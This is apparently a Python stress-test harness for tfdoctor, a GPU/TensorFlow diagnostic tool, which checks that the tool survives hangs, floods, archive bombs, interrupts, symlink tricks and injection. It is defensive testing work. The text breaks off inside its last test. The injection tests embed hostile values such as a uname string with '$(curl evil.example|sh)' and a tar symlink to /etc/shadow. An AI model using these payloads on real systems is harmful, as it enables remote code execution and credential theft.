"""Replay every class of hostile input, fault and interrupt from issue 10 against tfdoctor, and print tried/survived.

    python benchmarks/hostile.py            # every class (about three minutes on a 2-core machine)
    python benchmarks/hostile.py --quick    # fewer repetitions of the random-kill class

An attempt survives when tfdoctor does what it must: `check --timeout T` returns within T + 1 s (from the start of
the process) and leaves no process behind, peak RSS stays under 300 MB, Ctrl-C/SIGTERM end it with 130/143 and
"interrupted" within 1 s and no child left, fix-nouveau touches nothing outside --root and reports only verified
rollbacks, reports carry no terminal escapes and no unvalidated machine text in commands, redaction hides what it
must and changes no fact, and bad input is one line and exit 2. Stand-in tools are small scripts (tests/hostile.py).
Timings are wall-clock on whatever machine runs this: note its load (printed at the end).
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import random
import signal
import subprocess
import sys
import tarfile
import tempfile
import time
import traceback
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT))

from tests import hostile as h  # noqa: E402 - the stand-ins and hostile inputs the tests use

T = 5  # --timeout for the live-check attempts
RSS_LIMIT_MB = 300
INTERRUPT_LIMIT_S = 1.0

RESULTS: dict[str, list[tuple[str, bool, str]]] = {}


def attempt(cls: str, name: str):
    def deco(func):
        def run(tmp: Path):
            try:
                ok, note = func(tmp)
            except Exception as exc:  # noqa: BLE001 - an attempt that crashes the harness did not survive
                ok, note = False, f"{type(exc).__name__}: {exc}\n{traceback.format_exc(limit=3)}"
            RESULTS.setdefault(cls, []).append((name, bool(ok), note))
        run.cls, run.name = cls, name
        ATTEMPTS.append(run)
        return run
    return deco


ATTEMPTS: list = []


def live_check(tmp: Path, body: str, tools=h.LIVE_TOOLS, extra=()) -> tuple[bool, str]:
    bin_dir = h.stand_in_bin(tmp / "bin", body, tools)
    res = h.tfdoctor("check", "--no-tf", "--json", "--timeout", str(T), *extra, env=h.env_with(bin_dir),
                     timeout=120, measure_rss=True)
    left = h.leftovers(bin_dir, grace_s=1.0)
    ok = res.rc in (0, 1) and res.seconds <= T + 1 and (res.peak_rss_mb or 0) < RSS_LIMIT_MB and not left
    return ok, f"rc {res.rc}, {res.seconds:.2f} s, peak RSS {res.peak_rss_mb or 0:.0f} MB, left {len(left)}"


def replay(snapshot: Path, *extra: str, expect=(0, 1)) -> tuple[bool, str]:
    res = h.tfdoctor("check", "--from", str(snapshot), "--no-tf", "--timeout", str(T), *extra, timeout=120,
                     measure_rss=True)
    one_line = res.rc != 2 or len(res.stderr.strip().splitlines()) == 1
    ok = res.rc in expect and res.seconds <= T + 1 and (res.peak_rss_mb or 0) < RSS_LIMIT_MB and one_line \
        and "Traceback" not in res.stderr and "internal error" not in res.stderr
    return ok, f"rc {res.rc}, {res.seconds:.2f} s, peak RSS {res.peak_rss_mb or 0:.0f} MB: {res.stderr.strip()[:120]}"


# =====================================================================================================================
# 1. Hangs
# =====================================================================================================================

def _long_line_snapshot(tmp: Path, rel: str, line: str) -> Path:
    snap = h.copy_fixture("quadro-p2000-no-driver", tmp / "s")
    p = snap / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(line + "\n")
    return snap


for _rel, _line in [
    ("commands/lspci_-nnk", "01:00.0 VGA compatible controller [0300]: NVIDIA " + "[" * 300_000),
    ("commands/lspci_-nnk", "0" * 300_000),
    ("commands/nvidia-smi", "|    0   N/A  N/A     " + " 1234      C   " * 13_000 + "|"),
    ("commands/dmesg", "NVRM: Xid (" * 50_000),
    ("commands/journalctl_-k_-b_--no-pager", "Jan 01 00:00:00 h kernel: " + "nouveau 0000:" * 60_000),
    ("tensorflow.log", "Could not load dynamic library '" + "x" * 500_000),
    ("commands/ubuntu-drivers_devices", "driver   : " + "nvidia-driver-470 " * 40_000),
    ("commands/dkms_status", "nvidia/" + "5" * 300_000 + ": installed"),
]:
    attempt("1 hangs", f"a 300 KB-1 MB line in {_rel}")(lambda tmp, r=_rel, text=_line: replay(
        _long_line_snapshot(tmp, r, text)))


for _rel in ("commands/lspci_-nnk", "commands/nvidia-smi", "files/etc/os-release", "files/proc/cpuinfo",
             "tensorflow.log", "commands/dmesg", "files/proc/modules"):
    def _fifo(tmp, rel=_rel):
        snap = h.copy_fixture("quadro-p2000-no-driver", tmp / "s")
        p = snap / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        with contextlib.suppress(FileNotFoundError):
            p.unlink()
        os.mkfifo(p)
        return replay(snap)
    attempt("1 hangs", f"a FIFO at {_rel} in a snapshot directory")(_fifo)

for _rel in ("env.json", "nvml.json", "manifest.json"):
    def _fifo_json(tmp, rel=_rel):
        snap = h.copy_fixture("quadro-p2000-no-driver", tmp / "s")
        p = snap / rel
        with contextlib.suppress(FileNotFoundError):
            p.unlink()
        os.mkfifo(p)
        return replay(snap, expect=(2,))
    attempt("1 hangs", f"a FIFO as {_rel} (a damaged snapshot: exit 2)")(_fifo_json)


def _fifo_tf(tmp):
    snap = h.copy_fixture("quadro-p2000-no-driver", tmp / "s")
    os.mkfifo(snap / "tensorflow.json")
    res = h.tfdoctor("check", "--from", str(snap), "--timeout", str(T), timeout=120)
    ok = res.rc == 2 and res.seconds <= T + 1 and "tensorflow.json is not a readable regular file" in res.stderr
    return ok, f"rc {res.rc}, {res.seconds:.2f} s: {res.stderr.strip()[:100]}"


attempt("1 hangs", "a FIFO as tensorflow.json (a damaged snapshot: exit 2)")(_fifo_tf)


for _rel in ("etc/os-release", "etc/modprobe.d/nouveau.conf", "proc/modules", "proc/cmdline",
             "lib/modules/6.8.0-31-generic/modules.dep", "var/lib/dpkg/status"):
    def _root_fifo(tmp, rel=_rel):
        root = tmp / "image"
        (root / "etc" / "modprobe.d").mkdir(parents=True)
        p = root / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(p)
        res = h.tfdoctor("fix-nouveau", "--root", str(root), "--dry-run", timeout=60)
        return res.rc == 0 and res.seconds < 10, f"rc {res.rc}, {res.seconds:.2f} s"
    attempt("1 hangs", f"a FIFO at {_rel} in a --root image (fix-nouveau --dry-run)")(_root_fifo)

attempt("1 hangs", "every tool hangs and ignores SIGTERM")(lambda tmp: live_check(tmp, h.HANG))
attempt("1 hangs", "every tool forks grandchildren (one in its own session) and hangs")(
    lambda tmp: live_check(tmp, h.FORK_AND_HANG))
attempt("1 hangs", "every tool exits but its grandchildren keep stdout open")(
    lambda tmp: live_check(tmp, h.FORK_AND_HOLD))
attempt("1 hangs", "nvidia-smi alone hangs")(lambda tmp: live_check(tmp, h.HANG, tools=("nvidia-smi",)))
attempt("1 hangs", "a hanging --python (TensorFlow probe and python-info)")(
    lambda tmp: _hanging_python(tmp))


def _hanging_python(tmp: Path):
    python = tmp / "python"
    python.write_text(h.FORK_AND_HANG)
    python.chmod(0o755)
    res = h.tfdoctor("check", "--python", str(python), "--tf-timeout", "3", "--timeout", str(T), "--json",
                     timeout=120)
    left = h.leftovers(tmp, grace_s=1.0)
    return res.rc in (0, 1) and res.seconds <= T + 1 and not left, f"rc {res.rc}, {res.seconds:.2f} s, left {left}"


# =====================================================================================================================
# 2. Unbounded memory and disk
# =====================================================================================================================

attempt("2 memory", "every tool floods stdout (yes)")(lambda tmp: live_check(tmp, h.FLOOD))
attempt("2 memory", "every tool floods one endless line")(lambda tmp: live_check(tmp, h.FLOOD_NO_NEWLINE))
attempt("2 memory", "lspci alone is yes")(lambda tmp: live_check(tmp, h.FLOOD, tools=("lspci",)))
attempt("2 memory", "the kernel log floods")(lambda tmp: live_check(tmp, h.FLOOD, tools=("journalctl", "dmesg")))


def _printing_python(tmp: Path, body: str):
    python = tmp / "python"
    python.write_text("#!/bin/bash\n" + body)
    python.chmod(0o755)
    res = h.tfdoctor("check", "--python", str(python), "--tf-timeout", "4", "--timeout", str(T + 5), "--json",
                     timeout=120, measure_rss=True)
    left = h.leftovers(tmp, grace_s=1.0)
    ok = res.rc in (0, 1) and (res.peak_rss_mb or 0) < RSS_LIMIT_MB and not left and "MemoryError" not in res.stderr
    return ok, f"rc {res.rc}, {res.seconds:.2f} s, peak RSS {res.peak_rss_mb or 0:.0f} MB"


attempt("2 memory", "--python prints endlessly on stdout")(lambda tmp: _printing_python(tmp, "exec yes '{'\n"))
attempt("2 memory", "--python prints endlessly on stderr")(lambda tmp: _printing_python(tmp, "exec yes log >&2\n"))
attempt("2 memory", "--python prints one endless stderr line")(
    lambda tmp: _printing_python(tmp, "exec tr '\\0' x < /dev/zero >&2\n"))


def _special_file_snapshot(tmp: Path, how: str):
    snap = h.copy_fixture("quadro-p2000-no-driver", tmp / "s")
    p = snap / "files/proc/cpuinfo"
    p.parent.mkdir(parents=True, exist_ok=True)
    if how == "symlink":
        os.symlink("/dev/zero", p)
    elif how == "chardev":
        if os.geteuid() != 0:
            os.symlink("/dev/zero", p)
        else:
            os.mknod(p, 0o644 | 0o020000, os.makedev(1, 5))  # /dev/zero's numbers
    return replay(snap)


attempt("2 memory", "/dev/zero linked as a snapshot file")(lambda tmp: _special_file_snapshot(tmp, "symlink"))
attempt("2 memory", "a character device (1,5) as a snapshot file")(lambda tmp: _special_file_snapshot(tmp, "chardev"))


def _archive(tmp: Path, make, expect_rc=2):
    tmpdir = tmp / "tmpdir"
    tmpdir.mkdir()
    path = make(tmp)
    res = h.tfdoctor("check", "--from", str(path), "--no-tf", "--timeout", str(T), timeout=120, measure_rss=True,
                     env=h.env_with(TMPDIR=tmpdir))
    left = h.temp_dirs(tmpdir)
    ok = res.rc == expect_rc and res.seconds <= T + 1 and not left and (res.peak_rss_mb or 0) < RSS_LIMIT_MB \
        and (res.rc != 2 or len(res.stderr.strip().splitlines()) == 1)
    return ok, f"rc {res.rc}, {res.seconds:.2f} s, peak RSS {res.peak_rss_mb or 0:.0f} MB, left in TMPDIR " \
               f"{left}: {res.stderr.strip()[:100]}"


def _link_archive(tmp):
    link = tarfile.TarInfo("files/etc/os-release")
    link.type, link.linkname = tarfile.SYMTYPE, "/etc/shadow"
    return h.raw_tar_gz(tmp / "l.tar.gz", [h.manifest_member(), h.member("files/a", b"x" * 100_000), (link, None)])


def _pax_bomb(tmp):
    import gzip

    pax = tarfile.TarInfo("././@PaxHeader")
    pax.type, pax.size = tarfile.XHDTYPE, 2 << 30
    path = tmp / "pax.tar.gz"
    with gzip.open(path, "wb") as fh:
        fh.write(pax.tobuf(format=tarfile.USTAR_FORMAT) + b"x" * (4 << 20))
    return path


def _expanding(tmp):
    import gzip

    path = tmp / "zeros.tar.gz"
    info = tarfile.TarInfo("files/proc/cpuinfo")
    info.size = 15 << 20
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(h.manifest_member()[0].tobuf(format=tarfile.GNU_FORMAT) + b"{}".ljust(512, b"\0"))
        fh.write(info.tobuf(format=tarfile.GNU_FORMAT))
        for _ in range(15):
            fh.write(b"\0" * (1 << 20))
        fh.write(b"\0" * 1024)
    return path


attempt("2 memory", "a 4 GiB member in a few KB of .tar.gz")(lambda tmp: _archive(tmp, lambda t: h.tarbomb(
    t / "b.tar.gz")))
attempt("2 memory", "100,000 empty members")(lambda tmp: _archive(tmp, lambda t: h.many_members(t / "m.tar.gz",
                                                                                                100_000)))
attempt("2 memory", "a link after 100 KB of members (rejected: nothing stays)")(lambda tmp: _archive(tmp, _link_archive))
attempt("2 memory", "a pax header claiming 2 GiB")(lambda tmp: _archive(tmp, _pax_bomb))
attempt("2 memory", "15 MiB of zeros in 15 KB (expansion ratio)")(lambda tmp: _archive(tmp, _expanding))
attempt("2 memory", "random bytes named .tar.gz")(lambda tmp: _archive(
    tmp, lambda t: (t / "r.tar.gz").write_bytes(os.urandom(65536)) or t / "r.tar.gz"))
attempt("2 memory", "a valid archive extracts and is removed afterwards")(lambda tmp: _archive(
    tmp, lambda t: _tar_of(t, "quadro-p2000-no-driver"), expect_rc=1))


def _tar_of(tmp: Path, fixture: str) -> Path:
    path = tmp / "ok.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        tar.add(h.SNAPSHOTS / fixture, arcname="s")
    return path


# =====================================================================================================================
# 3. Orphans
# =====================================================================================================================

def _interrupt(tmp: Path, args, sig=signal.SIGINT, code=130):
    python = tmp / "python"
    python.write_text(h.FORK_AND_HANG)
    python.chmod(0o755)
    p = h.start(*[a.replace("PYTHON", str(python)) for a in args])
    if not h.wait_for_process(python, timeout=60):
        p.kill()
        return False, "the child never started"
    time.sleep(0.2)
    rc, err, seconds = h.interrupt(p, sig)
    left = h.leftovers(tmp, grace_s=1.0)
    last = err.strip().splitlines()[-1:] == ["tfdoctor: interrupted"]
    ok = rc == code and last and seconds <= INTERRUPT_LIMIT_S and not left
    return ok, f"rc {rc}, {seconds:.2f} s, last line {err.strip().splitlines()[-1:]}, left {left}"


_CHECK = ("check", "--python", "PYTHON", "--tf-timeout", "120", "--timeout", "200")
_BENCH = ("bench", "--python", "PYTHON", "--device", "cpu", "--timeout", "200")
for _n in range(3):
    attempt("3 orphans", f"Ctrl-C during check (TensorFlow child hung) #{_n + 1}")(lambda tmp: _interrupt(tmp, _CHECK))
    attempt("3 orphans", f"SIGTERM during check #{_n + 1}")(lambda tmp: _interrupt(tmp, _CHECK, signal.SIGTERM, 143))
    attempt("3 orphans", f"Ctrl-C during bench #{_n + 1}")(lambda tmp: _interrupt(tmp, _BENCH))
    attempt("3 orphans", f"SIGTERM during bench #{_n + 1}")(lambda tmp: _interrupt(tmp, _BENCH, signal.SIGTERM, 143))


def _watchdog(tmp: Path):
    bin_dir = h.stand_in_bin(tmp / "bin", h.HANG, tools=("stuck-tool",))
    prog = tmp / "stuck.py"
    prog.write_text(f"""
import sys, time, threading
sys.path.insert(0, {str(ROOT)!r})
from tfdoctor import catalogue
from tfdoctor.checks import check
from tfdoctor.probes import probe
catalogue.entries()
@probe("stuckprobe", timeout=300)
def stuckprobe(host, ctx):
    from tfdoctor.host import LiveHost
    threading.Thread(target=lambda: LiveHost().run([{str(bin_dir / 'stuck-tool')!r}], timeout=300), daemon=True).start()
    return {{}}
@check("system.stuck", title="Stuck", area="system", needs=("stuckprobe",), what="w", why="y", fix="f")
def stuck(facts):
    time.sleep(3600)
from tfdoctor.cli import main
main()
""")
    tmpdir = tmp / "tmpdir"
    tmpdir.mkdir()
    t0 = time.monotonic()
    p = subprocess.run([sys.executable, str(prog), "check", "--only", "system.stuck", "--from",
                        str(_tar_of(tmp, "quadro-p2000-no-driver")), "--timeout", str(T)],
                       env=h.env_with(TMPDIR=tmpdir), capture_output=True, text=True, timeout=120,
                       start_new_session=True)
    seconds = time.monotonic() - t0
    left = h.leftovers(bin_dir, grace_s=1.0)
    ok = p.returncode == 1 and seconds <= T + 1 and not left and not h.temp_dirs(tmpdir)
    return ok, f"rc {p.returncode}, {seconds:.2f} s, left {left}, TMPDIR {h.temp_dirs(tmpdir)}"


attempt("3 orphans", "the watchdog ends a stuck check: children killed, extraction removed")(_watchdog)
attempt("3 orphans", "a normal end after a hung nvidia-smi leaves no stand-in")(
    lambda tmp: live_check(tmp, h.HANG, tools=("nvidia-smi", "nvidia-debugdump")))


# =====================================================================================================================
# 4. Terminal and shell injection
# =====================================================================================================================

RAW = ("\x1b", "\x07", "\x9b", "\u202e", "\r")


def _evil(tmp: Path) -> Path:
    sys.path.insert(0, str(ROOT / "tests"))
    from tests.test_hostile import _evil_snapshot

    return _evil_snapshot(tmp)


for _fmt in ([], ["-v"], ["--quiet"], ["--markdown"], ["--format", "junit"], ["--format", "prometheus"]):
    def _inject(tmp, fmt=_fmt):
        res = h.tfdoctor("check", "--from", str(_evil(tmp)), "--no-tf", *fmt)
        bad = [c for c in RAW if c in res.stdout]
        return res.rc in (0, 1) and not bad and "Traceback" not in res.stderr, f"rc {res.rc}, raw controls {bad}"
    attempt("4 injection", f"escape sequences in a snapshot, report {' '.join(_fmt) or 'console'}")(_inject)


def _shell_in_package(tmp):
    res = h.tfdoctor("check", "--from", str(_evil(tmp)), "--no-tf", "--json")
    doc = json.loads(res.stdout)
    cmds = [c for f in doc["findings"] if f["fix"] for c in [*f["fix"]["commands"],
            *[x for a in f["fix"].get("alternatives", []) for x in a["commands"]], *f["fix"].get("verify", [])]]
    bad = [c for c in cmds if "x.example" in c]
    return not bad, f"{len(cmds)} commands, {len(bad)} carrying the payload"


attempt("4 injection", "ubuntu-drivers names `nvidia-driver-470 && curl ... | sudo sh`")(_shell_in_package)


def _machine_text_in_commands(tmp, rel, text):
    snap = h.copy_fixture("dkms-not-built", tmp / "s")
    p = snap / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_text(text)
    res = h.tfdoctor("check", "--from", str(snap), "--no-tf", "--json")
    doc = json.loads(res.stdout)
    cmds = [c for f in doc["findings"] if f["fix"] for c in f["fix"]["commands"]]
    bad = [c for c in cmds if "evil" in c]
    return res.rc in (0, 1) and not bad, f"rc {res.rc}, {len(bad)} commands carrying it"


attempt("4 injection", "a kernel release with $(...) in uname -r")(lambda tmp: _machine_text_in_commands(
    tmp, "commands/uname_-r", "6.8.0-31-generic$(curl evil.example|sh)\n"))
attempt("4 injection", "a dkms version with ; rm")(lambda tmp: _machine_text_in_commands(
    tmp, "commands/dkms_status", "nvidia/535;evil, 6.8.0-31-generic, x86_64: added\n"))


# =====================================================================================================================
# 5. fix-nouveau
# =====================================================================================================================

def _image(tmp: Path):
    sys.path.insert(0, str(ROOT))
    from tests.test_fix_nouveau import make_root

    r = make_root(tmp)
    bindir = tmp / "bin"
    bindir.mkdir(exist_ok=True)
    (bindir / "chroot").write_text('#!/bin/sh\nroot=$1; shift; tool=$1; shift\nexec "$root$tool" "$@"\n')
    (bindir / "chroot").chmod(0o755)
    return r, h.env_with(bindir)


def _digest(path: Path) -> str:
    from tests.test_fix_nouveau import tree_digest

    return tree_digest(path)


def _abs_link(tmp, link):
    r, env = _image(tmp)
    outside = tmp / "host"
    (outside / "modprobe.d").mkdir(parents=True)
    before = _digest(outside)
    (r.path / link).rename(r.path / (link + ".real"))
    os.symlink(str(outside) if link == "etc" else str(outside / "modprobe.d"), r.path / link)
    res = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    return _digest(outside) == before, f"rc {res.rc}: {res.stderr.strip()[:100]}"


attempt("5 fix-nouveau", "R/etc is an absolute symlink to a host directory")(lambda tmp: _abs_link(tmp, "etc"))
attempt("5 fix-nouveau", "R/etc/modprobe.d is an absolute symlink to a host directory")(
    lambda tmp: _abs_link(tmp, "etc/modprobe.d"))


def _target_link(tmp, undo=False):
    r, env = _image(tmp)
    secret = tmp / "secret"
    secret.write_text("x\n")
    secret.chmod(0o600)
    os.symlink(str(secret), r.p("etc/modprobe.d/blacklist-nouveau.conf"))
    res = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", *(["--undo"] if undo else []), env=env)
    backups = list(r.p("etc/modprobe.d").glob("*tfdoctor-backup*"))
    ok = secret.read_text() == "x\n" and (secret.stat().st_mode & 0o777) == 0o600 and not backups and res.rc == 1
    return ok, f"rc {res.rc}, backups {backups}"


attempt("5 fix-nouveau", "the target is a symlink to a file outside the root")(_target_link)
attempt("5 fix-nouveau", "--undo with the target a symlink outside")(lambda tmp: _target_link(tmp, undo=True))


def _root_symlink_to_slash(tmp):
    os.symlink("/", tmp / "slash")
    res = h.tfdoctor("fix-nouveau", "--root", str(tmp / "slash"), "--dry-run")
    return res.rc == 0 and "State of / " in res.stdout, f"rc {res.rc}: {res.stdout[:60]!r}"


attempt("5 fix-nouveau", "--root is a symlink to /")(_root_symlink_to_slash)


def _failing_initramfs(tmp):
    r, env = _image(tmp)
    (r.path / "usr/sbin/update-initramfs").write_text("#!/bin/sh\necho broken >&2\nexit 1\n")
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_bytes(b"# the admin's\n" * 600)
    before = _digest(r.path)
    res = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    ok = res.rc == 1 and "Rolled back" in res.stderr and _digest(r.path) == before
    return ok, f"rc {res.rc}"


attempt("5 fix-nouveau", "the initramfs step fails: rollback verified")(_failing_initramfs)


def _interrupted_fix(tmp, sig):
    r, env = _image(tmp)
    (r.path / "usr/sbin/update-initramfs").write_text("#!/bin/sh\ntrap '' TERM INT\nsleep 3600\n")
    r.p("etc/modprobe.d/blacklist-nouveau.conf").write_bytes(b"# mine\n")
    before = _digest(r.path)
    p = h.start("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    if not h.wait_for_process(r.path / "usr/sbin/update-initramfs"):
        p.kill()
        return False, "the initramfs step never started"
    rc, err, seconds = h.interrupt(p, sig)
    left = h.leftovers(r.path, grace_s=1.0)
    ok = rc == 128 + sig and "Rolled back" in err and _digest(r.path) == before and not left
    return ok, f"rc {rc}, {seconds:.2f} s, left {left}"


if os.geteuid() == 0:
    attempt("5 fix-nouveau", "Ctrl-C during the initramfs step")(lambda tmp: _interrupted_fix(tmp, signal.SIGINT))
    attempt("5 fix-nouveau", "SIGTERM during the initramfs step")(lambda tmp: _interrupted_fix(tmp, signal.SIGTERM))


def _undo_twice(tmp):
    r, env = _image(tmp)
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_bytes(b"# mine\n")
    os.chmod(target, 0o640)
    os.utime(target, ns=(1_600_000_000_000_000_000,) * 2)
    st = target.stat()
    a = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    b = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", "--undo", env=env)
    c = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", "--undo", env=env)
    after = target.stat()
    ok = (a.rc, b.rc, c.rc) == (0, 0, 0) and target.read_bytes() == b"# mine\n" and \
        (after.st_mode, after.st_uid, after.st_gid, after.st_mtime_ns) == (st.st_mode, st.st_uid, st.st_gid,
                                                                           st.st_mtime_ns)
    return ok, f"rc {a.rc}/{b.rc}/{c.rc}"


attempt("5 fix-nouveau", "fix, undo, undo again: bytes, mode, owner, mtime back")(_undo_twice)


def _edited_then_undo(tmp):
    r, env = _image(tmp)
    h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    target.write_text(target.read_text() + "options nvidia NVreg_X=1\n")
    res = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", "--undo", env=env)
    return res.rc == 1 and "NVreg_X=1" in target.read_text(), f"rc {res.rc}"


attempt("5 fix-nouveau", "--undo after the admin edited the file")(_edited_then_undo)


def _concurrent(tmp):
    r, env = _image(tmp)
    (r.path / "usr/sbin/update-initramfs").write_text("#!/bin/sh\nsleep 2\necho broken >&2\nexit 1\n")
    before = _digest(r.path)
    ps = [h.start("fix-nouveau", "--root", str(r.path), "--yes", env=env) for _ in range(2)]
    outs = [p.communicate(timeout=120) for p in ps]
    rcs = [p.returncode for p in ps]
    ok = _digest(r.path) == before and all(rc == 1 for rc in rcs) and not any(
        b"already blacklisted" in o[0] for o in outs)
    return ok, f"rcs {rcs}"


attempt("5 fix-nouveau", "two runs at once, the initramfs step failing")(_concurrent)


def _kill_storm(tmp, runs):
    """SIGKILL fix-nouveau at random moments; afterwards the file is ours or the admin's (never half), no temporary
    file stays after the next run, and --undo brings the admin's file back."""
    r, env = _image(tmp)
    target = r.p("etc/modprobe.d/blacklist-nouveau.conf")
    original = b"# the admin's file\n" + b"options snd_hda_intel power_save=0\n" * 100
    target.write_bytes(original)
    rng = random.Random(10)
    for _ in range(runs):
        p = h.start("fix-nouveau", "--root", str(r.path), "--yes", *(["--undo"] if rng.random() < 0.5 else []),
                    env=env)
        time.sleep(rng.uniform(0.05, 0.6))
        with contextlib.suppress(ProcessLookupError):
            os.killpg(p.pid, signal.SIGKILL)
        p.wait()
        data = target.read_bytes() if target.exists() else b""
        if data and data != original and not data.startswith(b"# Written by tfdoctor"):
            return False, f"a half-written file: {data[:60]!r}"
    h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", env=env)
    temps = [n for n in os.listdir(r.p("etc/modprobe.d")) if n.endswith(".tmp")]
    undo = h.tfdoctor("fix-nouveau", "--root", str(r.path), "--yes", "--undo", env=env)
    ok = not temps and undo.rc == 0 and target.read_bytes() == original
    return ok, f"temporary files left {temps}, undo rc {undo.rc}"


# =====================================================================================================================
# 6. Redaction
# =====================================================================================================================

def _redact(text, secret, hostnames=("gpu07",)):
    from tfdoctor.redact import Redactor

    out = Redactor(hostnames=hostnames).learn(text)(text)
    return secret not in out, out[:100]


for _text, _secret in [
    ("/gpfs/home/alice7/x", "alice7"), ("/scratch/alice7/x", "alice7"), ("/mnt/c/Users/alice7/x", "alice7"),
    ("/opt/conda/envs/alice7-tf/bin/python", "alice7"), ("Linux version 6.8 (alice7@box) (gcc)", "alice7"),
    ("audit: user=alice7", "alice7"), ("Jan 01 10:00:00 gpu07.corp.example kernel: x", "corp.example"),
    ("GPU07 up", "GPU07"), ("gpu07-ib0 up", "gpu07"), ("grpc://10.1.2.3:8470", "10.1.2.3"),
    ("inet 8.8.8.8/24", "8.8.8.8"), ("Connecting to 203.0.113.7 port 22", "203.0.113.7"),
    ("inet6 fe80::1/64\n    inet6 2001:db8::42/64", "2001:db8::42"), ("52-54-00-12-34-56", "52-54-00-12-34-56"),
    ("Serial Number 1323520012345", "1323520012345"),
    ("boot 0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0", "0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0"),
]:
    attempt("6 redaction", f"{_secret} in {_text.splitlines()[0][:40]!r}")(lambda tmp, t=_text, s=_secret: _redact(t, s))


def _same_diagnosis(tmp, name):
    from tfdoctor.api import raw_check
    from tfdoctor.host import open_snapshot
    from tfdoctor.redact import Redactor
    from tfdoctor.report import redact_report

    snap = h.SNAPSHOTS / "quadro-p2000-no-driver"
    plain = redact_report(raw_check(open_snapshot(snap), snapshot=str(snap), no_tf=True), Redactor())
    named = redact_report(raw_check(open_snapshot(snap), snapshot=str(snap), no_tf=True), Redactor(hostnames=(name,)))
    a = [(f.id, f.status, f.summary) for f in plain.findings]
    b = [(f.id, f.status, f.summary) for f in named.findings]
    return a == b and named.facts["env"]["os_id"] == "ubuntu", f"{sum(x != y for x, y in zip(a, b, strict=False))} findings differ"


for _name in ("ubuntu", "debian", "nvidia"):
    attempt("6 redaction", f"a host named {_name} changes no fact")(lambda tmp, n=_name: _same_diagnosis(tmp, n))


def _tar_owner(tmp):
    from tfdoctor.host import RecordingHost
    from tfdoctor.redact import Redactor

    host = RecordingHost()
    host.files["/etc/os-release"] = "ID=ubuntu\n"
    out = host.write_snapshot(tmp / "s.tar.gz", Redactor())
    with tarfile.open(out) as tar:
        owners = {(m.uid, m.gid, m.uname, m.gname) for m in tar.getmembers()}
    return owners == {(0, 0, "", "")}, str(owners)


def _part_symlink(tmp):
    victim = tmp / "victim"
    victim.write_text("precious\n")
    os.symlink(victim, tmp / "s.tar.gz.part")
    res = h.tfdoctor("snapshot", "-o", str(tmp / "s.tar.gz"), "--no-tf")
    return victim.read_text() == "precious\n" and res.rc == 0, f"rc {res.rc}"


attempt("6 redaction", "tar members carry no user or group")(_tar_owner)
attempt("6 redaction", "a planted X.tar.gz.part symlink")(_part_symlink)


# =====================================================================================================================
# 7. Validation and error wording
# =====================================================================================================================

def _usage(args, needle, rc=2):
    res = h.tfdoctor(*args)
    lines = res.stderr.strip().splitlines()
    ok = res.rc == rc and len(lines) == 1 and needle in lines[0] and "Traceback" not in res.stderr
    return ok, f"rc {res.rc}: {res.stderr.strip()[:120]}"


QUADRO = str(h.SNAPSHOTS / "quadro-p2000-no-driver")
for _args, _needle in [
    (["check", "--from", QUADRO, "--timeout", "nan"], "seconds above 0"),
    (["check", "--from", QUADRO, "--timeout", "inf"], "seconds above 0"),
    (["check", "--from", QUADRO, "--timeout", "-1"], "seconds above 0"),
    (["check", "--from", QUADRO, "--tf-timeout", "-5"], "seconds above 0"),
    (["bench", "--timeout", "nan"], "seconds above 0"),
    (["snapshot", "-o", "/tmp/tfdoctor-hostile-x.zip", "--no-tf"], "unknown snapshot format"),
    (["snapshot", "-o", "/nonexistent-dir/x.tar.gz", "--no-tf"], "does not exist"),
    (["check", "--from", QUADRO, "--no-tf", "-o", "/"], "cannot write"),
    (["check", "--from", QUADRO, "--no-tf", "--prometheus", "/proc/x"], "cannot write"),
]:
    attempt("7 validation", " ".join(a if len(a) < 30 else "..." for a in _args))(
        lambda tmp, a=_args, n=_needle: _usage(a, n))


def _bad_snapshot(tmp, files, needle, manifest=h.MANIFEST):
    snap = h.snapshot_dir(tmp / "s", files, manifest=manifest)
    return _usage(["check", "--from", str(snap), "--no-tf"], needle)


attempt("7 validation", "manifest links of the wrong type")(lambda tmp: _bad_snapshot(
    tmp, {}, "manifest.json", manifest={**h.MANIFEST, "links": [1, 2]}))
attempt("7 validation", "manifest exists of the wrong type")(lambda tmp: _bad_snapshot(
    tmp, {}, "manifest.json", manifest={**h.MANIFEST, "exists": {"/x": "yes"}}))
attempt("7 validation", "nvml.json nested 100,000 deep")(lambda tmp: _bad_snapshot(
    tmp, {"nvml.json": "[" * 100_000 + "]" * 100_000}, "nested deeper"))
attempt("7 validation", "a tar path 300 folders deep")(lambda tmp: _usage(
    ["check", "--from", str(h.raw_tar_gz(tmp / "d.tar.gz", [h.manifest_member(), h.member("a/" * 300 + "f")])),
     "--no-tf"], "deeper than"))
attempt("7 validation", "a tarbomb under --timeout")(lambda tmp: _usage(
    ["check", "--from", str(h.tarbomb(tmp / "b.tar.gz")), "--timeout", "5", "--quiet"], "at most 16 MiB"))


def _surrogates(tmp):
    snap = _evil(tmp)
    ok, notes = True, []
    for fmt, end in (([], "issues"), (["--markdown"], "</details>"), (["-v"], "issues")):
        res = h.tfdoctor("check", "--from", str(snap), "--no-tf", *fmt)
